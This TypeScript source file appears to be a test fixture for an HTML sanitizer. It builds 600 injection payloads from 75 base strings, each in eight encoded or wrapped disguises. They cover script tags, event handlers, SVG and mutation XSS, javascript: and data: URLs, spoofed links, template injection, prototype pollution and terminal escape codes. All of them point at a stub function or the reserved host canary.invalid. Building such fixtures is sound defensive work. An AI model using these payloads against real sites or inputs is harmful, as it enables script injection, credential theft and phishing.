// Six hundred ways in which a text has become a script, a style, a link or another text: seventy-five of them, each in eight disguises.
// Knows what to write; never knows where it is written to. What runs calls `pwned()` or asks for something of canary.invalid.

const CLASSES: Record<string, readonly string[]> = {
	'script elements': [
		'<script>pwned()</script>',
		'<ScRiPt src=//canary.invalid/a.js></sCrIpT>',
		'</script><script>pwned()</script>',
		'<script type=module>pwned()</script>',
		'<script/x>pwned()</script>',
		'<<script>pwned();//<</script>',
	],
	'event handlers': [
		'<img src=x onerror=pwned()>',
		"<img src='x'onerror='pwned()'>",
		'<body onload=pwned()>',
		'<details open ontoggle=pwned()>',
		'<input autofocus onfocus=pwned()>',
		'<video><source onerror=pwned()></video>',
		'<audio src=x onerror=pwned()>',
		'<marquee onstart=pwned()>',
		'<p onpointerover=pwned() style=position:fixed;inset:0>',
		'<a href=# autofocus onfocus=pwned() tabindex=0>x</a>',
	],
	'other elements': [
		'<iframe srcdoc="<script>parent.pwned()</script>">',
		'<iframe src=javascript:parent.pwned()>',
		'<object data=javascript:pwned()>',
		'<embed src=//canary.invalid/e>',
		'<base href=//canary.invalid/>',
		'<meta http-equiv=refresh content="0;url=//canary.invalid/">',
		'<link rel=stylesheet href=//canary.invalid/s.css>',
		'<form action=//canary.invalid/><button>x</button></form>',
		'<isindex action=javascript:pwned() type=image>',
		'<live-feed channel=other relay=//canary.invalid></live-feed>',
		'<slot name=heading></slot>',
		'<dialog open>not yours</dialog>',
	],
	'svg and mathml': [
		'<svg onload=pwned()>',
		'<svg><script>pwned()</script></svg>',
		'<svg><animate onbegin=pwned() attributeName=x dur=1s>',
		'<svg><a xlink:href=javascript:pwned()><text>x</text></a></svg>',
		'<svg><use href="data:image/svg+xml,<svg id=x/>#x">',
		'<math><a xlink:href=javascript:pwned()>x</a></math>',
		'<svg><foreignObject><img src=x onerror=pwned()>',
	],
	'mutated markup': [
		'<noscript><p title="</noscript><img src=x onerror=pwned()>">',
		'<svg></p><style><a id="</style><img src=x onerror=pwned()>">',
		'<math><mtext><table><mglyph><style><img src=x onerror=pwned()>',
		'<!--><img src=x onerror=pwned()>-->',
		'<![CDATA[><img src=x onerror=pwned()>]]>',
		'<template><img src=x onerror=pwned()></template>',
		'<textarea></textarea><img src=x onerror=pwned()>',
		'<title></title><img src=x onerror=pwned()>',
	],
	addresses: [
		'javascript:pwned()',
		'JaVaScRiPt:pwned()',
		'javascript://a.example/%0Apwned()',
		'data:text/html,<script>pwned()</script>',
		'data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+',
		'vbscript:pwned()',
		'blob:https://a.example/0',
		'https://good.example@canary.invalid/',
		'https://good.example%2f@canary.invalid/',
		'https://\u0430pple.example/',
		'https://a.example/\u202egnp.exe',
		'https://a.example\\@canary.invalid/',
		'//canary.invalid/x',
		'mailto:a@b.example?subject=<script>pwned()</script>',
		'file:///etc/passwd',
	],
	templates: [
		'$' + '{pwned()}',
		'{{constructor.constructor("pwned()")()}}',
		'{{lit-0123456789}}',
		'<!--?lit$0123456789$-->',
		'lit$0123456789$<!--?-->',
		'#{pwned()}<%= pwned() %>',
	],
	'prototypes and styles': [
		'__proto__',
		'constructor',
		'{"__proto__":{"polluted":1}}',
		'red;background:url(//canary.invalid/c)',
		'</style><style>*{display:none}</style>',
		'expression(pwned())',
	],
	'characters that act': [
		'\u202eadA\u202c \u2067unverified\u2069',
		'a\u200bb\u2060c\ufeffd\u00ade',
		'\u001b]8;;javascript:pwned()\u0007x\u001b]8;;\u0007',
		'a\u0000b\u0008c',
		'\ud800<img src=x onerror=pwned()>',
	],
};

const ENTITIES: Record<string, string> = { '<': '&lt;', '>': '&#62;', '"': '&quot;', ':': '&colon;', '(': '&lpar;' };
const escapeUnit = (unit: string) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, '0')}`;

const DISGUISES: readonly ((payload: string) => string)[] = [
	(payload) => payload,
	(payload) => `"'>${payload}`,
	(payload) => payload.replace(/[<>":(]/g, (sign) => ENTITIES[sign] ?? sign) || payload,
	(payload) => payload.replace(/[^\w\ud800-\udfff]/g, (sign) => encodeURIComponent(sign)),
	// A URL parser drops these, wherever they stand.
	(payload) => `${payload.slice(0, 4)}\t\n${payload.slice(4)}`,
	(payload) => `\u2066${payload}\u202d`,
	(payload) => `</p></li><!-- -->${payload}`,
	(payload) => payload.replace(/[<>"':(]/g, escapeUnit),
];

/** All of them, each with the class that it is of, every one different. */
export const PAYLOADS: readonly { text: string; kind: string }[] = Object.entries(CLASSES).flatMap(([kind, payloads]) =>
	payloads.flatMap((payload) =>
		// A disguise that changes nothing is marked, so that each of them is one of its own.
		DISGUISES.map((disguise, index) => {
			const text = disguise(payload);
			return { kind, text: index > 0 && text === payload ? `${payload} #${index}` : text };
		}),
	),
);
